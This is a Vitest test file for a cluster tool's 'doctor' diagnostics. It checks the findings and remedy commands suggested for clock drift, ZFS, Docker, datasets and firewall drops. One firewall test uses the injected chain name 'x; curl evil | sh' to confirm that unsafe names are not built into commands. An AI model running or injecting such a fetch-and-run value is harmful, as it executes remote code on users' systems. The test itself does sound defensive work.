import { describe, expect, it } from 'vitest';
import type { ForeignMount } from '../../../../src/model/cluster.ts';
import type { ConnectAnswer, Examination, FirewallDrop, SystemReading } from '../../../../src/model/examination.ts';
import { judge } from '../../../../src/view/doctor/doctor.ts';
import type { Examined, Finding } from '../../../../src/view/doctor/finding.ts';
import { aCluster, aConfig, aContainer, anApplication, aVolume, onNode, tcp, unreachable } from '../../../builders.ts';

const [n1, n2] = ['10.0.0.1', '10.0.0.2'] as const;
const web = anApplication('web', { ports: [tcp(8000)] });
const config = aConfig([web], { [n1]: ['web'], [n2]: [] });
const now = 1_000_000_000_000;
const day = 24 * 3_600_000;

const wellSystem: SystemReading = {
  nowMs: now,
  forwards: { ipv4: true, ipv6: true },
  firewall: { services: [], accepted: [n1, n2], drops: [] },
  zfs: { userland: '2.3.2-2', module: '2.3.2-2' },
  docker: { api: '1.47', minApi: '1.24', fit: 'well' },
  timeKeepers: ['chrony'],
  snapshotters: [],
  pool: { health: 'ONLINE', capacity: 3, fragmentation: 1, errors: 'No known data errors' },
  datasets: [],
  snapshots: [],
};
const dataset = {
  name: 'drover/volumes/web-1',
  role: 'owner',
  readonly: false,
  mounted: true,
  canmount: 'noauto',
  mountpoint: { value: '/var/lib/drover/volumes/web-1', source: 'inherited' },
  autoSnapshot: 'false',
  hasResumeToken: false,
  createdAt: now - 10 * day,
  bookmarks: 0,
} as const;
const snapshot = { dataset: dataset.name, createdAt: now - 1_000, holds: [] };
const port = (address: string, result: ConnectAnswer['result'] = 'accepted'): ConnectAnswer => ({
  address,
  port: 8000,
  result,
});
const ssh = (address: string, said = 'SSH-2.0-x'): ConnectAnswer => ({
  address,
  port: 22,
  banner: true,
  result: said === '' ? 'silent' : 'accepted',
  ...(said === '' ? {} : { said }),
});
const well = (other: string): Examination => ({
  isRoot: true,
  failures: [],
  sessions: { asked: 10, granted: 10 },
  clock: { offsetMs: 3, uncertaintyMs: 5 },
  system: wellSystem,
  provision: [{ state: 'done', step: 'packages' }],
  connects: [port(n1), port(n2), ssh(other)],
});

/** Both nodes well but for these changes of n2. */
function examined(changes: Partial<Examination> = {}, more: Partial<Examined> = {}): Examined {
  return {
    config,
    state: aCluster(onNode(n1, { containers: [aContainer(web, n1)] }), onNode(n2)),
    examinations: { [n1]: well(n2), [n2]: { ...well(n1), ...changes } },
    here: [n1, n2].map((node) => ({ node, port: 8000, result: 'accepted' })),
    provisionPath: '/opt/drover/host/provision.sh',
    ...more,
  };
}
const withSystem = (changes: Partial<SystemReading>): Examined => examined({ system: { ...wellSystem, ...changes } });
const wrong = (it: Examined, only?: string): readonly Finding[] =>
  judge(it, only).filter(({ result }) => result !== 'ok');

/** Not well, and only in this one way. */
function onlyFinding(it: Examined): Finding {
  const found = wrong(it);
  expect(found, JSON.stringify(found, undefined, 1)).toHaveLength(1);
  return found[0] as Finding;
}

describe('doctor judges', () => {
  it('a healthy cluster well, and says so of each thing it tried', () => {
    expect(wrong(examined())).toEqual([]);
    expect(new Set(judge(examined()).map(({ check }) => check))).toEqual(
      new Set(
        'connection versions pool space forwards sessions clock zfs docker provision forwarding scrub datasets snapshotters connections'
          .split(' ')
          .concat('direct transfer', 'clocks'),
      ),
    );
  });

  it('a name server that does not run or answer, and a network of the node inside the network of names', () => {
    const server = { address: '198.19.0.1', runs: true, answers: true };
    const routes = [{ network: '10.0.0.0/24', interface: 'eth0' }];
    const reading = { servers: [server], routes };
    expect(wrong(withSystem({ names: reading }))).toEqual([]);
    for (const [changes, word] of [
      [{ answers: false }, 'does not answer'],
      [{ runs: false, answers: false }, 'does not run'],
    ] as const) {
      expect(onlyFinding(withSystem({ names: { servers: [{ ...server, ...changes }], routes } }))).toMatchObject({
        node: n2,
        check: 'names',
        result: 'fault',
        text: expect.stringContaining(`198.19.0.1 ${word}`),
        command: expect.stringContaining('systemctl restart drover-names@198.19.0.1'),
      });
    }
    for (const network of ['198.18.4.0/24', '198.0.0.0/8', '198.19.255.255']) {
      const clash = withSystem({ names: { servers: [server], routes: [{ network, interface: 'eth1' }] } });
      expect(onlyFinding(clash).text).toContain(`${network} at eth1 lies in 198.18.0.0/15`);
    }
    const outside = ['198.17.0.0/16', '198.20.0.0/16'].map((network) => ({ network, interface: 'eth1' }));
    expect(wrong(withSystem({ names: { servers: [], routes: outside } }))).toEqual([]);
  });

  it('too few sessions', () => {
    expect(onlyFinding(examined({ sessions: { asked: 10, granted: 2 } }))).toMatchObject({
      node: n2,
      check: 'sessions',
      result: 'fault',
      text: expect.stringContaining('2 of 10'),
      command: expect.stringMatching(/^ssh 10\.0\.0\.2 '.*MaxSessions 20.*reload ssh/),
    });
    expect(onlyFinding(examined({ sessions: { asked: 10, granted: 7 } })).result).toBe('warning');
    expect(wrong(examined({ sessions: { asked: 10, granted: 9 } }))).toEqual([]);
  });

  it.each([
    [900, undefined],
    [1_500, 'warning'],
    [-1_500, 'warning'],
    [29_000, 'warning'],
    [40_000, 'fault'],
    [-86_400_000, 'fault'],
  ])('a clock that is %i ms off', (offsetMs, result) => {
    const found = wrong(examined({ clock: { offsetMs, uncertaintyMs: 0 } }), n2);
    expect(found.map((one) => one.result)).toEqual(result === undefined ? [] : [result]);
    if (result !== undefined) expect(found[0]?.command).toContain(`| ssh ${n2} 'read -r t && date`);
  });

  it('no clock worse than the round trip can tell, and clocks that differ from each other', () => {
    expect(wrong(examined({ clock: { offsetMs: 4_000, uncertaintyMs: 3_500 } }), n2)).toEqual([]);
    const apart = wrong(examined({ clock: { offsetMs: 40_000, uncertaintyMs: 1 } }));
    expect(apart.map(({ check, result }) => [check, result])).toEqual([
      ['clock', 'fault'],
      ['clocks', 'fault'],
    ]);
  });

  it('this machine’s clock, where the nodes agree with each other', () => {
    const clock = { offsetMs: 90_000, uncertaintyMs: 10 };
    const it = { ...examined(), examinations: { [n1]: { ...well(n2), clock }, [n2]: { ...well(n1), clock } } };
    expect(wrong(it).find(({ check }) => check === 'clocks')?.text).toContain("this machine's clock");
  });

  it.each([
    ['2.2.0-1', 'fault'],
    ['2.2.1-1', 'fault'],
    ['2.1.4-1', 'warning'],
    ['0.8.3-1ubuntu12', 'warning'],
    ['2.1.5-1', undefined],
    ['2.2.2-1', undefined],
    ['2.3.2', undefined],
  ])('OpenZFS %s', (version, result) => {
    const found = wrong(withSystem({ zfs: { userland: version, module: version } }));
    expect(found.map((one) => one.result)).toEqual(result === undefined ? [] : [result]);
  });

  it('a module that is not the tools’, and one that is not there', () => {
    const differ = withSystem({ zfs: { userland: '2.3.2-2', module: '2.2.7-1' } });
    expect(onlyFinding(differ)).toMatchObject({
      check: 'zfs',
      result: 'warning',
      command: `ssh ${n2} systemctl reboot`,
    });
    expect(onlyFinding(withSystem({ zfs: {} }))).toMatchObject({ result: 'fault', command: `ssh ${n2} modprobe zfs` });
  });

  it('a Docker that is too old, too new, or silent', () => {
    const api = (fit: 'too old' | 'too new') => withSystem({ docker: { api: '1.40', minApi: '1.12', fit } });
    expect(onlyFinding(api('too old'))).toMatchObject({ check: 'docker', result: 'fault' });
    expect(onlyFinding(api('too new'))).toMatchObject({ check: 'docker', result: 'warning' });
    const { docker: _none, ...system } = wellSystem;
    const silent = examined({ system });
    const error = { code: 'docker-failed', message: 'cannot reach Docker', retryable: true, causes: [] } as const;
    const state = { nodes: { ...silent.state.nodes, [n2]: { status: 'unreachable', since: 0, error } as const } };
    expect(onlyFinding({ ...silent, state })).toMatchObject({
      check: 'docker',
      result: 'fault',
      command: `ssh ${n2} systemctl start docker`,
    });
  });

  it('a volume that another program keeps mounted', () => {
    const user = { dataset: dataset.name, container: 'backup', pid: 12, process: 'sleep' };
    const volume = aVolume('v1', { on: n2, application: 'web', dataset: dataset.name });
    const state = (foreignMounts: readonly ForeignMount[]) =>
      aCluster(onNode(n1, { containers: [aContainer(web, n1)] }), onNode(n2, { volumes: [volume], foreignMounts }));
    expect(onlyFinding(examined({}, { state: state([user]) }))).toMatchObject({
      node: n2,
      check: 'mounts',
      result: 'warning',
      text: expect.stringMatching(/volume "web" cannot be moved: container "backup" keeps it mounted/),
      command: `ssh ${n2} docker stop backup`,
    });
    const { container: _container, ...process } = user;
    expect(onlyFinding(examined({}, { state: state([process]) })).command).toBe(`ssh ${n2} ps -fp 12`);
  });

  it('what provision.sh would do, with the same script as the remedy', () => {
    const provision = [
      { state: 'done', step: 'packages' },
      { state: 'would do', step: 'boot services' },
    ] as const;
    expect(onlyFinding(examined({ provision }))).toMatchObject({
      check: 'provision',
      result: 'fault',
      text: expect.stringContaining('boot services'),
      command: `ssh ${n2} bash -s -- --pool-name drover --root drover/volumes < /opt/drover/host/provision.sh`,
    });
    expect(onlyFinding(examined({ provision: [] })).result).toBe('warning');
  });

  it('what could not be tried as not known', () => {
    const error = {
      code: 'timeout',
      message: 'cannot examine the system: no answer',
      retryable: true,
      causes: [],
    } as const;
    expect(onlyFinding(examined({ failures: [{ part: 'system', error }] }))).toMatchObject({
      check: 'examination',
      text: expect.stringContaining('not known'),
    });
  });

  it('an unreachable node as a fault of it alone', () => {
    const connection = { code: 'connection-failed', message: 'no', retryable: true, causes: [] } as const;
    const it = examined(
      { failures: [{ part: 'connection', error: connection }] },
      { state: aCluster(onNode(n1, { containers: [aContainer(web, n1)] }), unreachable(n2)), here: [] },
    );
    const broken = { ...it, examinations: { [n1]: { ...well(n2), connects: [port(n1)] }, [n2]: { failures: [] } } };
    expect(onlyFinding(broken)).toMatchObject({ node: n2, check: 'connection', command: `ssh -v ${n2} true` });
    expect(judge(broken).some(({ node, check }) => node === n1 && check === 'connections')).toBe(true);
  });

  it('a pool with errors, suspended, or in pieces', () => {
    const pool = (changes: Partial<SystemReading['pool']>) => withSystem({ pool: { ...wellSystem.pool, ...changes } });
    expect(onlyFinding(pool({ errors: '3 data errors, use -v' })).result).toBe('fault');
    expect(onlyFinding(pool({ scan: 'scrub repaired 0B in 00:00:01 with 2 errors on Sun' })).check).toBe('scrub');
    expect(onlyFinding(pool({ fragmentation: 80 })).check).toBe('space');
    expect(onlyFinding(pool({ health: 'SUSPENDED' })).command).toBe(`ssh ${n2} zpool clear drover`);
  });

  it.each([
    [{ readonly: true }, 'zfs set readonly=off'],
    [{ role: 'replica', mounted: false }, 'zfs set readonly=on'],
    [{ canmount: 'on' }, 'zfs set canmount=noauto'],
    [{ mountpoint: { value: '/srv', source: 'local' } }, 'zfs inherit mountpoint'],
    [{ role: 'replica', readonly: true }, 'zfs unmount'],
  ])('a dataset that does not fit its role: %j', (changes, command) => {
    expect(onlyFinding(withSystem({ datasets: [{ ...dataset, ...changes }] }))).toMatchObject({
      check: 'datasets',
      command: `ssh ${n2} ${command} ${dataset.name}`,
    });
  });

  it('zfs-auto-snapshot only where our datasets do not forbid it', () => {
    const startedBy = 'zfs-auto-snapshot-hourly.timer';
    const it = (autoSnapshot: string) =>
      withSystem({
        snapshotters: [{ tool: 'zfs-auto-snapshot', startedBy }],
        datasets: [{ ...dataset, autoSnapshot }],
        snapshots: [{ ...snapshot, name: 'zfs-auto-snap_hourly-1' }],
      });
    expect(onlyFinding(it('true'))).toMatchObject({
      check: 'snapshotters',
      result: 'fault',
      command: `ssh ${n2} zfs set com.sun:auto-snapshot=false ${dataset.name}`,
    });
    expect(wrong(it('false'))).toEqual([]);
  });

  it('sanoid only while it takes snapshots of ours', () => {
    const it = (createdAt: number) =>
      withSystem({
        snapshotters: [{ tool: 'sanoid', startedBy: 'sanoid.timer' }],
        snapshots: [{ ...snapshot, createdAt, name: 'autosnap_1' }],
      });
    expect(onlyFinding(it(now - 60_000)).command).toBe(`ssh ${n2} systemctl disable --now sanoid.timer`);
    expect(wrong(it(now - 5 * day))).toEqual([]);
  });

  it('holds of others on our snapshots, an old token, and copies that nobody removed', () => {
    const held = { ...snapshot, name: 'drover-e1-1', holds: ['drover', 'backup'] };
    expect(onlyFinding(withSystem({ snapshots: [held] })).command).toBe(
      `ssh ${n2} zfs holds ${dataset.name}@drover-e1-1`,
    );
    const token = (createdAt: number) => withSystem({ datasets: [{ ...dataset, hasResumeToken: true, createdAt }] });
    expect(onlyFinding(token(now - 3 * day))).toMatchObject({ check: 'tokens' });
    expect(wrong(token(now - 60_000))).toEqual([]);
    expect(onlyFinding(withSystem({ datasets: [{ ...dataset, bookmarks: 20 }] })).check).toBe('leftovers');
  });

  it('an image that no node has', () => {
    const state = aCluster(onNode(n1), onNode(n2));
    expect(wrong(examined({}, { state, here: [] }))[0]).toMatchObject({
      node: n1,
      check: 'images',
      command: `ssh ${n1} docker pull acme/web:1`,
    });
  });

  describe('connections', () => {
    const drop: FirewallDrop = {
      hook: 'forward',
      table: 'inet foreign',
      chain: 'fwd',
      handle: 4,
      rule: 'counter drop',
    };
    /** Nobody gets through n2, and this is what its node shows. */
    function cut(system: Partial<SystemReading>, result: ConnectAnswer['result'] = 'silent'): Examined {
      const made = examined({ system: { ...wellSystem, ...system } });
      return {
        ...made,
        examinations: { ...made.examinations, [n1]: { ...well(n2), connects: [port(n1), port(n2, result), ssh(n2)] } },
        here: [
          { node: n1, port: 8000, result: 'accepted' },
          { node: n2, port: 8000, result },
        ],
      };
    }
    const firewall = (changes: Partial<SystemReading['firewall']>) => ({
      firewall: { ...wellSystem.firewall, ...changes },
    });

    it('that a rule drops, with that rule and one that lets this port through before it', () => {
      expect(onlyFinding(cut(firewall({ drops: [drop] })))).toMatchObject({
        node: n2,
        check: 'connections',
        result: 'fault',
        text: expect.stringMatching(
          /port 8000 of "web".*10\.0\.0\.1, this machine: probably "counter drop".*inet foreign fwd/,
        ),
        command: `ssh ${n2} nft insert rule inet foreign fwd ct status dnat ct reply ip saddr ${n1} ct original proto-dst 8000 meta l4proto tcp accept`,
      });
      expect(onlyFinding(cut(firewall({ drops: [drop] }), 'refused')).command).toContain('fwd ct status dnat');
      const user: FirewallDrop = { ...drop, table: 'ip filter', chain: 'DOCKER-USER' };
      expect(onlyFinding(cut(firewall({ drops: [user] }))).command).toBe(
        `ssh ${n2} iptables -I DOCKER-USER -p tcp -m conntrack --ctstate DNAT --ctreplsrc ${n1} --ctorigdstport 8000 -j ACCEPT`,
      );
      const hostile: FirewallDrop = { ...drop, chain: 'x; curl evil | sh' };
      expect(onlyFinding(cut(firewall({ drops: [hostile] }))).command).toBe(`ssh ${n2} nft list ruleset`);
    });

    it('prefer the rule that names the port', () => {
      const other = { ...drop, handle: 5, rule: 'tcp dport 22 drop' };
      const named = { ...drop, handle: 6, chain: 'named', rule: 'tcp dport { 80, 8000 } drop' };
      expect(onlyFinding(cut(firewall({ drops: [other, drop, named] }))).command).toContain('foreign named');
      expect(onlyFinding(cut(firewall({ drops: [other] }))).command).toBe(`ssh ${n2} nft list ruleset`);
    });

    it('that a policy drops: of ufw, of others', () => {
      const policy: FirewallDrop = { hook: 'forward', table: 'ip filter', chain: 'FORWARD', rule: 'policy drop' };
      expect(onlyFinding(cut(firewall({ services: ['ufw'], drops: [policy] }))).command).toBe(
        `ssh ${n2} ufw route allow proto tcp to ${n1} port 8000`,
      );
      expect(onlyFinding(cut(firewall({ drops: [policy] }))).command).toContain('iptables -I DOCKER-USER -p tcp');
      const { accepted: _none, ...bare } = wellSystem.firewall;
      const firewalld = { ...drop, table: 'inet firewalld', rule: 'reject with icmpx admin-prohibited' };
      const it = cut({ firewall: { ...bare, services: ['firewalld'], drops: [firewalld] } });
      expect(onlyFinding(it).command).toContain('nft insert rule inet firewalld fwd ct status dnat');
    });

    it('that a node forwards for everybody is a fault, which is closed', () => {
      const [found] = wrong(examined({ system: { ...wellSystem, ...firewall({ open: ['IPv4', 'IPv6'] }) } }));
      expect(found).toMatchObject({ check: 'forwarding', result: 'fault' });
      expect(found?.command).toContain("'iptables -P FORWARD DROP && ip6tables -P FORWARD DROP'");
    });

    it('that Docker drops for want of its rule, and that the kernel does not forward', () => {
      const policy: FirewallDrop = { hook: 'forward', table: 'ip filter', chain: 'FORWARD', rule: 'policy drop' };
      const found = wrong(cut(firewall({ accepted: [], drops: [policy] })));
      expect(found.map(({ check }) => check)).toEqual(['forwarding', 'connections']);
      for (const { command } of found) expect(command).toBe(`ssh ${n2} systemctl restart drover-net`);
      const off = wrong(cut({ forwards: { ipv4: false, ipv6: true } }));
      for (const { command } of off) expect(command).toBe(`ssh ${n2} sysctl -w net.ipv4.ip_forward=1`);
      expect(off).toHaveLength(2);
    });

    it('of an application that does not answer at home are its own fault, told once', () => {
      const made = examined();
      const refused = [port(n1, 'refused'), port(n2, 'refused')];
      const it = {
        ...made,
        examinations: {
          [n1]: { ...well(n2), connects: [...refused, ssh(n2)] },
          [n2]: { ...well(n1), connects: [...refused, ssh(n1)] },
        },
        here: [n1, n2].map((node) => ({ node, port: 8000, result: 'refused' }) as const),
      };
      expect(onlyFinding(it)).toMatchObject({ node: n1, check: 'answers', command: 'drover logs web --tail 50' });
    });

    it('without a forward need an apply', () => {
      const made = cut({});
      const state = aCluster(
        onNode(n1, { containers: [aContainer(web, n1)] }),
        onNode(n2, { network: { open: [{ port: 1, protocol: 'tcp' }], peers: [n1] } }),
      );
      expect(onlyFinding({ ...made, state }).command).toBe('drover apply');
    });

    it('to a held port are left out: a move is under way', () => {
      const made = cut({});
      const holds = [{ port: 8000, protocol: 'tcp' }] as const;
      const state = aCluster(onNode(n1, { containers: [aContainer(web, n1)] }), onNode(n2, { network: { holds } }));
      expect(wrong({ ...made, state })).toEqual([]);
    });

    it('between sshds decide whether data goes directly', () => {
      const cutOff = { ...well(n2), connects: [port(n1), port(n2), ssh(n2, '')] };
      const it = { ...examined(), examinations: { [n1]: cutOff, [n2]: well(n1) } };
      expect(onlyFinding(it)).toMatchObject({ node: n2, check: 'direct transfer', result: 'warning' });
      const mode = (transfer: 'direct' | 'relay') => ({
        ...it,
        config: { ...config, settings: { ...config.settings, transfer } },
      });
      expect(onlyFinding(mode('direct')).result).toBe('fault');
      expect(wrong(mode('relay'))).toEqual([]);
      const few = { ...well(n2), connects: [port(n1), port(n2), ssh(n2), ssh(n2, ''), ssh(n2)] };
      expect(onlyFinding({ ...it, examinations: { [n1]: few, [n2]: well(n1) } }).check).toBe('sshd');
    });
  });

  it('commands for a login that is not root, reached in its own way', () => {
    const nodes = {
      [n1]: {},
      [n2]: { name: 'node2', user: 'anna', port: 2222, identityFile: '/home/anna/my key', jump: 'gate' },
    };
    const it = examined({ isRoot: false, sessions: { asked: 10, granted: 2 } }, { config: { ...config, nodes } });
    expect(onlyFinding(it).command).toMatch(
      /^ssh -i '\/home\/anna\/my key' -J gate -p 2222 anna@10\.0\.0\.2 'sudo sh -c /,
    );
  });
});
